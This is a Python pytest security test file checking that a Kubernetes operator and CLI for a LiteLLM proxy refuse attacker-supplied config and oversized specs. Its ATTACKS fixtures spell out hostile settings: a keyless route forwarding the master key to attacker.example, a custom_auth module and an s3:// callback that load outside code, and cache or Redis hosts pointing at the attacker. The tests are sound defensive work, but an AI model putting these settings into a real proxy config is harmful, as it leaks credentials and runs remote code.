"""Rule 3 of issue 11: `spec.litellm` is an allow-list, and every bound holds everywhere.

The attacker's settings used to land in the LiteLLM config unchanged: a route without a
key forwarding the master key (`pass_through_endpoints` + `os.environ/LITELLM_MASTER_KEY`),
code loaded from elsewhere (`custom_auth`, `callbacks: s3://...`), connections to other
servers (`cache_params.host`, `redis_host`). The real operator and the real local mode
(which would start the real LiteLLM) refuse them naming the key; the attacker's server
receives nothing. A spec within the CRD's bounds but rendering over a ConfigMap's 1 MiB is
InvalidSpec in status, without a retry loop; `copilot-proxy render` refuses what the API
server would.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import prometheus_client
import pytest
import yaml

from testkit.fake_github import FakeGitHub
from testkit.kube import KubeCluster
from testkit.kube.kopf_runner import KopfOperator
from testkit.ports import free_port
from testkit.waiting import wait_for
from tests.security.harness import NS, condition, proxy, running_operator, settled

CLI = str(Path(sys.executable).with_name("copilot-proxy"))
MASTER_KEY = "os.environ/LITELLM_MASTER_KEY"


@pytest.fixture
def attacker() -> Iterator[FakeGitHub]:
    with FakeGitHub() as server:
        yield server


@pytest.fixture
def operator(kube_api: KubeCluster, monkeypatch: pytest.MonkeyPatch) -> Iterator[KopfOperator]:
    with running_operator(monkeypatch) as running:
        yield running


def exfiltration(target: str) -> dict[str, Any]:
    """An unauthenticated route that forwards the proxy's master key to `target`."""
    route = {"path": "/leak", "target": target, "auth": False}
    route["headers"] = {"Authorization": MASTER_KEY}
    return {"general_settings": {"pass_through_endpoints": [route]}}


ATTACKS: dict[str, tuple[dict[str, Any], str]] = {
    "pass-through": (
        exfiltration("https://attacker.example/collect"),
        "litellm.general_settings.pass_through_endpoints",
    ),
    "custom-auth": (
        {"general_settings": {"custom_auth": "attacker_module.auth"}},
        "litellm.general_settings.custom_auth",
    ),
    "remote-callback": (
        {"litellm_settings": {"callbacks": ["s3://attacker-bucket/evil.py"]}},
        "litellm.litellm_settings.callbacks[0]",
    ),
    "cache-host": (
        {"litellm_settings": {"cache": True, "cache_params": {"host": "attacker.example"}}},
        "litellm.litellm_settings.cache",
    ),
    "redis-host": (
        {"router_settings": {"redis_host": "attacker.example"}},
        "litellm.router_settings.redis_host",
    ),
    "environment-in-an-allowed-key": (
        {"router_settings": {"routing_strategy": MASTER_KEY}},
        "litellm.router_settings.routing_strategy",
    ),
}


@pytest.mark.parametrize("attack", sorted(ATTACKS))
async def test_the_operator_renders_none_of_the_attackers_settings(
    kube_api: KubeCluster, operator: KopfOperator, attack: str
) -> None:
    settings, field = ATTACKS[attack]
    kube_api.create(proxy("thief", litellm=settings))
    await settled(kube_api, "thief", deployment=False)
    rendered = [c["data"]["config.yaml"] for c in kube_api.list("ConfigMap", NS)]
    # The operator's own `master_key: os.environ/LITELLM_MASTER_KEY` is the one reference.
    assert not any("attacker" in t or t.count(MASTER_KEY) > 1 for t in rendered), rendered
    ready = condition(kube_api, "thief", "Ready")
    assert (ready["status"], ready["reason"]) == ("False", "InvalidSpec")
    assert ready["message"].startswith(f"spec.{field}:"), ready["message"]


async def test_os_environ_is_refused_anywhere_in_a_spec(
    kube_api: KubeCluster, operator: KopfOperator
) -> None:
    """A route is a model_name in the config; LiteLLM reads os.environ/ in many places."""
    route = {"name": MASTER_KEY, "models": ["gpt-5-mini"]}
    kube_api.create(proxy("thief", routes=[route]))
    await settled(kube_api, "thief", deployment=False)
    assert not any(json.dumps(c).count(MASTER_KEY) > 1 for c in kube_api.list("ConfigMap", NS))
    assert condition(kube_api, "thief", "Ready")["message"].startswith("spec.routes[0].name:")


def errors_and_reconciles() -> tuple[float, float]:
    totals = {"copilot_proxy_reconcile_errors_total": 0.0, "copilot_proxy_reconciles_total": 0.0}
    for metric in prometheus_client.REGISTRY.collect():
        for sample in metric.samples:
            if sample.name in totals:
                totals[sample.name] += sample.value
    return totals["copilot_proxy_reconcile_errors_total"], totals["copilot_proxy_reconciles_total"]


def oversized() -> dict[str, Any]:
    """Within every bound of the CRD, but 32 routes of 16 long names render to ~2 MB."""
    names = [f"{'m' * 90}{i:02d}" for i in range(16)]
    return {
        "models": [{"name": n} for n in names],
        "routes": [{"name": f"{'r' * 90}{i:02d}", "models": names} for i in range(32)],
    }


async def test_a_config_over_a_configmaps_limit_is_invalid_spec_without_a_retry_loop(
    kube_api: KubeCluster, operator: KopfOperator
) -> None:
    errors, _ = errors_and_reconciles()
    kube_api.create(proxy("huge", **oversized()))
    await wait_for(
        lambda: condition(kube_api, "huge", "ConfigReady").get("reason") == "InvalidSpec",
        message="InvalidSpec in status",
    )
    assert "ConfigMap" in condition(kube_api, "huge", "ConfigReady")["message"]
    assert kube_api.get("ConfigMap", NS, "huge-litellm-config") is None
    _, before = errors_and_reconciles()
    # The resync (1 s here) revisits it twice; a failed reconciliation would be retried.
    await wait_for(lambda: errors_and_reconciles()[1] >= before + 2, message="two resyncs")
    assert errors_and_reconciles()[0] == errors, "the reconciliation fails and is retried"


@pytest.mark.parametrize(
    ("spec", "field"),
    [
        ({"models": [{"name": f"model-{i}"} for i in range(17)]}, "spec.models"),
        ({"mcpServers": {f"s{i}": {"url": "http://m"} for i in range(100)}}, "spec.mcpServers"),
        ({"mcpServers": {"": {"url": "http://m"}}}, "spec.mcpServers"),
        ({"mcpServers": {"ünï cødé/../x": {"url": "http://m"}}}, "spec.mcpServers"),
        (oversized(), "spec: the LiteLLM config it renders"),
    ],
    ids=["17-models", "100-mcp-servers", "empty-mcp-key", "unicode-path-mcp-key", "over-1MiB"],
)
def test_render_refuses_what_the_api_server_would(
    tmp_path: Path, spec: dict[str, Any], field: str
) -> None:
    spec.setdefault("models", [{"name": "gpt-5-mini"}])
    path = tmp_path / "cpx.yaml"
    path.write_text(yaml.safe_dump(proxy("big", **spec), allow_unicode=True))
    done = subprocess.run(
        [CLI, "render", "-f", str(path)], capture_output=True, text=True, timeout=60, check=False
    )
    assert done.returncode == 2, done.stdout[-300:]
    assert field in done.stderr and "ünï" not in done.stderr


def test_the_local_mode_never_starts_litellm_with_the_exfiltration_route(
    tmp_path: Path, fake_github: FakeGitHub, attacker: FakeGitHub
) -> None:
    """Signed in already (a token in the state folder): the old code started the real
    LiteLLM with the route, and a request without a key sent the master key away."""
    state = tmp_path / "state"
    state.mkdir(mode=0o700)
    (state / "access-token").write_text(fake_github.default_token)
    path = tmp_path / "cpx.yaml"
    path.write_text(
        yaml.safe_dump(
            proxy("local", litellm=exfiltration(f"{attacker.url}/copilot_internal/user"))
        )
    )
    port = free_port()
    cmd = [CLI, "run", "-f", str(path), "--state-dir", str(state)]
    cmd += ["--proxy-port", str(port), "--auth-port", str(free_port())]
    env = {**os.environ, **fake_github.env()}
    run = subprocess.Popen(cmd, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 90
        while run.poll() is None and time.monotonic() < deadline:
            try:  # the attacker's request: no key
                httpx.get(f"http://127.0.0.1:{port}/leak", timeout=5)
                break
            except httpx.TransportError:
                time.sleep(0.5)
    finally:
        run.terminate()
        _, stderr = run.communicate(timeout=30)
    assert attacker.requests == [], "the master key went to the attacker"
    assert run.returncode == 2, stderr
    assert "spec.litellm.general_settings.pass_through_endpoints" in stderr
